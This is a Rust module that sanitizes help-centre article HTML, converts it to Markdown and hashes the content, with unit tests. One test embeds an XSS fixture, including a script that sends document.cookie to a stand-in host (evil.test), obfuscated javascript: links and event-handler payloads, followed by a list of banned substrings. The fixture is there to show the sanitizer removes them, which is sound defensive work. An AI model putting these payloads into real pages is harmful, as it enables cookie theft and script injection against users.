//! An article's HTML is untrusted: the help centre's authors (or whoever broke into
//! their account) wrote it, and the product renders it to people and feeds it to its
//! assistants. What is stored is cleaned here, once, on the way in:
//!
//! - **Sanitized HTML** (`ammonia`, an allow-list built on html5ever's parser): the
//!   structural and formatting tags a help article uses (headings, paragraphs, lists,
//!   tables, links, images, code, quotes…); `<script>`, `<style>` and their content
//!   gone; every event-handler attribute (`onerror=`, `onclick=`…) and `style` dropped;
//!   URLs only `http`, `https`, `mailto` and `tel` — `javascript:`, `data:` and
//!   `vbscript:` links lose their `href`/`src`; links get `rel="noopener noreferrer
//!   nofollow"`; comments stripped.
//! - **Markdown** of that sanitized HTML (`htmd`, a turndown-style converter), for
//!   indexing and for assistants that read text.
//! - **A content hash** over what a document is (title, sanitized HTML, URL, locale,
//!   labels, section path, published state): an import skips an article whose hash is
//!   unchanged, whatever its provider timestamp says.

use std::collections::HashSet;

use sha2::{Digest, Sha256};

/// URL schemes a stored link or image may use.
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

/// Tags an article keeps (ammonia's defaults, less what a help article has no use
/// for and what changes how a page behaves).
const REMOVED_TAGS: [&str; 4] = ["area", "map", "bdo", "data"];

/// Sanitizes an article's HTML (see the module documentation).
pub fn sanitize(html: &str) -> String {
    let mut builder = ammonia::Builder::default();
    builder
        .rm_tags(REMOVED_TAGS)
        .url_schemes(SCHEMES.into_iter().collect::<HashSet<_>>())
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true);
    builder.clean(html).to_string()
}

/// The Markdown of sanitized HTML; `None` if the converter fails (it reads any HTML
/// html5ever parses, so only an I/O error of its own would).
pub fn markdown(sanitized: &str) -> Option<String> {
    htmd::HtmlToMarkdown::builder()
        .skip_tags(vec!["script", "style"])
        .build()
        .convert(sanitized)
        .ok()
}

/// What a document is, for its content hash.
#[derive(Debug, Clone, Copy)]
pub struct Content<'a> {
    /// The title.
    pub title: &'a str,
    /// The sanitized HTML.
    pub html: &'a str,
    /// Where people read it.
    pub url: Option<&'a str>,
    /// Its locale.
    pub locale: Option<&'a str>,
    /// Its labels, in the source's order.
    pub labels: &'a [String],
    /// Category → section (or folder) names.
    pub section_path: &'a [String],
    /// Whether the source shows it to readers.
    pub published: bool,
}

/// The SHA-256 (hex) of `c`: each part length-prefixed, so no two documents share
/// one by moving text between parts.
pub fn content_hash(c: &Content<'_>) -> String {
    let mut h = Sha256::new();
    let mut part = |s: &str| {
        h.update((s.len() as u64).to_be_bytes());
        h.update(s.as_bytes());
    };
    part(c.title);
    part(c.html);
    part(c.url.unwrap_or(""));
    part(c.locale.unwrap_or(""));
    part(&c.labels.len().to_string());
    for l in c.labels {
        part(l);
    }
    part(&c.section_path.len().to_string());
    for s in c.section_path {
        part(s);
    }
    part(if c.published { "published" } else { "draft" });
    hex(&h.finalize())
}

fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    let mut out = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        let _ = write!(out, "{b:02x}");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_handlers_and_javascript_urls_never_survive() {
        let hostile = r#"<h2 onclick="steal()">Reset your password</h2>
<script>fetch('https://evil.test/?c='+document.cookie)</script>
<p style="position:fixed">Open <a href="javascript:alert(1)">settings</a>,
<a href="JaVaScRiPt&#58;alert(2)">again</a>, <a href="https://help.example.com/a">or here</a>.</p>
<img src="x" onerror="alert(3)"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<iframe src="https://evil.test"></iframe><!-- a comment --><style>p{}</style>
<svg><script>alert(4)</script></svg><form action="https://evil.test"><input name="p"></form>"#;
        let clean = sanitize(hostile);
        let lower = clean.to_ascii_lowercase();
        for banned in [
            "<script",
            "onclick",
            "onerror",
            "javascript",
            "data:",
            "<iframe",
            "<style",
            "style=",
            "<!--",
            "<svg",
            "<form",
            "<input",
            "steal",
            "document.cookie",
        ] {
            assert!(!lower.contains(banned), "{banned} in {clean}");
        }
        assert!(clean.contains("<h2>Reset your password</h2>"), "{clean}");
        assert!(
            clean.contains(r#"<a href="https://help.example.com/a" rel="noopener noreferrer nofollow">or here</a>"#),
            "{clean}"
        );
    }

    #[test]
    fn markdown_keeps_the_structure_of_an_article() {
        let html = sanitize(
            "<h2>Steps</h2><ol><li>Open <b>Settings</b></li><li>Choose <a href=\"https://x.example.com/\">Reset</a></li></ol><p>Done &amp; dusted.</p>",
        );
        let md = markdown(&html).expect("converts");
        assert!(md.contains("## Steps"), "{md}");
        assert!(md.contains("1.  Open **Settings**"), "{md}");
        assert!(md.contains("[Reset](https://x.example.com/)"), "{md}");
        assert!(md.contains("Done & dusted."), "{md}");
    }

    #[test]
    fn the_hash_changes_with_every_part_and_only_with_them() {
        let labels = vec!["billing".to_owned()];
        let path = vec!["FAQ".to_owned(), "Billing".to_owned()];
        let base = Content {
            title: "Refunds",
            html: "<p>Within 30 days.</p>",
            url: Some("https://help.example.com/hc/en-us/articles/1"),
            locale: Some("en-us"),
            labels: &labels,
            section_path: &path,
            published: true,
        };
        let h = content_hash(&base);
        assert_eq!(h, content_hash(&base));
        assert_eq!(h.len(), 64);
        let other_labels = vec!["refunds".to_owned()];
        let other_path = vec!["FAQ".to_owned()];
        for changed in [
            Content {
                title: "Refund",
                ..base
            },
            Content {
                html: "<p>Within 14 days.</p>",
                ..base
            },
            Content { url: None, ..base },
            Content {
                locale: Some("de"),
                ..base
            },
            Content {
                labels: &other_labels,
                ..base
            },
            Content {
                section_path: &other_path,
                ..base
            },
            Content {
                published: false,
                ..base
            },
            // Text moved between parts is another document.
            Content {
                title: "RefundsF",
                section_path: &["AQ".to_owned(), "Billing".to_owned()],
                ..base
            },
        ] {
            assert_ne!(content_hash(&changed), h, "{changed:?}");
        }
    }
}
